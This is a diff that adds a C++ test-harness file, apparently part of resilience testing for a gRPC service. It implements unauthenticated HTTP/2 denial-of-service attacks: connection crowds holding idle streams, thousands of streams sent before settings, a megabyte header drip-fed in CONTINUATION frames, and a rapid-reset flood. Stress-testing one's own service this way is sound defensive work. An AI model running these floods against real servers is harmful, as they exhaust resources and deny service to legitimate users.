@@ -1,0 +1,166 @@
+// What anybody can do who reaches the port, without a token, from as many connections as he may have.
+
+#include <atomic>
+#include <chrono>
+#include <functional>
+#include <memory>
+#include <set>
+#include <string>
+#include <utility>
+#include <vector>
+
+#include "absl/strings/str_cat.h"
+#include "tools/mirror_harness/attack/raw_http2.h"
+#include "tools/mirror_harness/attack/target.h"
+
+namespace mirror::harness {
+namespace {
+
+using Clock = std::chrono::steady_clock;
+using Connections = std::vector<std::unique_ptr<RawHttp2>>;
+
+constexpr char kReflection[] = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo";
+constexpr char kWatch[] = "/grpc.health.v1.Health/Watch";
+constexpr char kAuthenticate[] = "/mirror.v1.MirrorClientService/Authenticate";
+constexpr char kRowData[] = "/mirror.v1.MirrorClientService/RowData";
+/// What an endpoint with the default limits says that a connection may have open.
+constexpr std::uint32_t kStreams = 100;
+constexpr int kThreads = 8;
+
+/// Ended with a status or not, closed or left alone: what counts is that all others are served.
+const std::set<std::string> kAnyEnd = {kClosed, kOpen, "UNIMPLEMENTED", "UNAUTHENTICATED",
+                                       "RESOURCE_EXHAUSTED"};
+const std::set<std::string> kIsClosed = {kClosed};
+
+/// Connections that stay while a source connects anew. `open` does to each what it is there for.
+Attack Crowd(std::string name, std::string what, std::size_t count, std::function<void(RawHttp2&)> open) {
+  return {std::move(name), std::move(what), kAnyEnd, [count, open](Target& target) {
+            Connections crowd;
+            for (std::size_t i = 0; i < count; ++i) {
+              absl::StatusOr<std::unique_ptr<RawHttp2>> connection = RawHttp2::Connect(target.endpoint());
+              if (!connection.ok()) break;  // It has enough of us.
+              open(**connection);
+              crowd.push_back(*std::move(connection));
+            }
+            if (crowd.empty()) return Outcome{{}, "", "no connection was accepted"};
+            Outcome outcome = crowd.back()->Await(1, std::chrono::milliseconds(200));
+            outcome.words = absl::StrCat(crowd.size(), " connections");
+            outcome.fault = target.ServedAnew();
+            return outcome;
+          }};
+}
+
+/// Headers of as many calls as a connection may have, and a message where `body` is one.
+void OpenStreams(RawHttp2& connection, const std::string& path, const std::string& body) {
+  for (std::uint32_t i = 0; i < kStreams; ++i) {
+    if (!connection.Call(2 * i + 1, path, "")) return;
+    if (!body.empty() && !connection.Body(2 * i + 1, body, false)) return;
+  }
+}
+
+/// Calls of fifteen bytes each, to an endpoint that was not told that we know how many we may have.
+void OpenStreamsUnasked(RawHttp2& connection) {
+  constexpr std::uint32_t kCalls = 5'000;
+  const RawHttp2::Headers headers = RawHttp2::CallHeaders(kAuthenticate, "");
+  std::string frames =
+      RawHttp2::Framed(RawHttp2::kHeaders, RawHttp2::kEndHeaders, 1, RawHttp2::EncodeToRemember(headers));
+  for (std::uint32_t i = 1; i < kCalls; ++i) {
+    frames += RawHttp2::Framed(RawHttp2::kHeaders, RawHttp2::kEndHeaders, 2 * i + 1,
+                               RawHttp2::Remembered(headers.size()));
+  }
+  connection.WriteBytes(frames);
+}
+
+/// One text of megabytes, a few bytes in each frame: an endpoint that puts it together anew for each of them
+/// is busy for minutes.
+Outcome ContinuedText(Target& target) {
+  constexpr std::size_t kTextBytes = 5 << 20, kPiece = 8, kFramesAtOnce = 1'000;
+  Outcome outcome = InParallel(2, [&](int) {
+    absl::StatusOr<std::unique_ptr<RawHttp2>> connection = RawHttp2::Connect(target.endpoint());
+    if (!connection.ok()) return OutcomeOf(connection.status());
+    // The beginning of a text of so many bytes, which then come.
+    const std::string whole = RawHttp2::Encode({{"x-more", std::string(kTextBytes, 'x')}});
+    const std::string begin = whole.substr(0, whole.size() - kTextBytes);
+    (*connection)
+        ->Write(RawHttp2::kHeaders, 0, 1, RawHttp2::Encode(RawHttp2::CallHeaders(kRowData, "")) + begin);
+    std::string frames;
+    for (std::size_t i = 0; i < kFramesAtOnce; ++i)
+      frames += RawHttp2::Framed(RawHttp2::kContinuation, 0, 1, std::string(kPiece, 'x'));
+    for (std::size_t sent = 0; sent < kTextBytes; sent += kFramesAtOnce * kPiece) {
+      if (!(*connection)->WriteBytes(frames)) break;
+    }
+    return (*connection)->Await(1, kAttackPatience);
+  });
+  outcome.fault = target.ServedAnew();
+  return outcome;
+}
+
+/// Calls that are taken back at once, from 80 connections, each of which stays below what one may do.
+Outcome RapidResets(Target& target) {
+  constexpr std::size_t kConnections = 80;
+  constexpr std::uint32_t kCallsAtOnce = 64;
+  const auto end = Clock::now() + target.flood_time();
+  const RawHttp2::Headers headers = RawHttp2::CallHeaders(kRowData, "");
+  const std::string cancel("\0\0\0\10", 4);
+  std::atomic<std::uint64_t> calls = 0;
+  Outcome outcome = InParallel(kThreads, [&](int) {
+    struct Attacker {
+      std::unique_ptr<RawHttp2> connection;
+      std::uint32_t turn = 0;
+    };
+    std::vector<Attacker> attackers(kConnections / kThreads);
+    Outcome all;
+    while (Clock::now() < end) {
+      for (Attacker& attacker : attackers) {
+        if (Clock::now() >= end) break;
+        if (attacker.connection == nullptr) {
+          absl::StatusOr<std::unique_ptr<RawHttp2>> connection = RawHttp2::Connect(target.endpoint());
+          if (!connection.ok()) continue;
+          attacker = {*std::move(connection), 0};
+        }
+        std::string frames;
+        for (std::uint32_t i = 0; i < kCallsAtOnce; ++i, ++attacker.turn) {
+          const std::uint32_t stream = 2 * attacker.turn + 1;
+          frames += RawHttp2::Framed(RawHttp2::kHeaders, RawHttp2::kEndHeaders, stream,
+                                     attacker.turn == 0 ? RawHttp2::EncodeToRemember(headers)
+                                                        : RawHttp2::Remembered(headers.size()));
+          frames += RawHttp2::Framed(RawHttp2::kReset, 0, stream, cancel);
+        }
+        calls += kCallsAtOnce;
+        if (attacker.connection->WriteBytes(frames)) continue;
+        all.got.insert(kClosed);
+        attacker.connection = nullptr;
+      }
+    }
+    return all;
+  });
+  if (outcome.got.empty()) outcome.got.insert(kOpen);
+  outcome.words = absl::StrCat(calls.load(), " calls");
+  outcome.fault = target.ServedAnew();
+  return outcome;
+}
+
+}  // namespace
+
+Theme StrangerAttacks() {
+  return {
+      "strangers",
+      {
+          Crowd("reflection-streams", "Four connections with a hundred idle streams of reflection each.", 4,
+                [](RawHttp2& connection) { OpenStreams(connection, kReflection, ""); }),
+          Crowd("health-watches", "A hundred and ninety connections with a hundred watches of health each.",
+                190, [](RawHttp2& connection) { OpenStreams(connection, kWatch, MessagePrefix(false, 0)); }),
+          Crowd("silent-authenticates",
+                "Ten connections with a hundred Authenticates whose message never comes.", 10,
+                [](RawHttp2& connection) { OpenStreams(connection, kAuthenticate, ""); }),
+          Crowd("streams-unasked", "Two connections with 5,000 calls each, before settings are agreed.", 2,
+                OpenStreamsUnasked),
+          {"continued-text", "A header's text of 5 MB in pieces of 8 bytes, twice.", kIsClosed,
+           ContinuedText},
+          {"rapid-resets-many", "Calls that are taken back at once, from 80 connections together.", kAnyEnd,
+           RapidResets},
+      },
+  };
+}
+
+}  // namespace mirror::harness
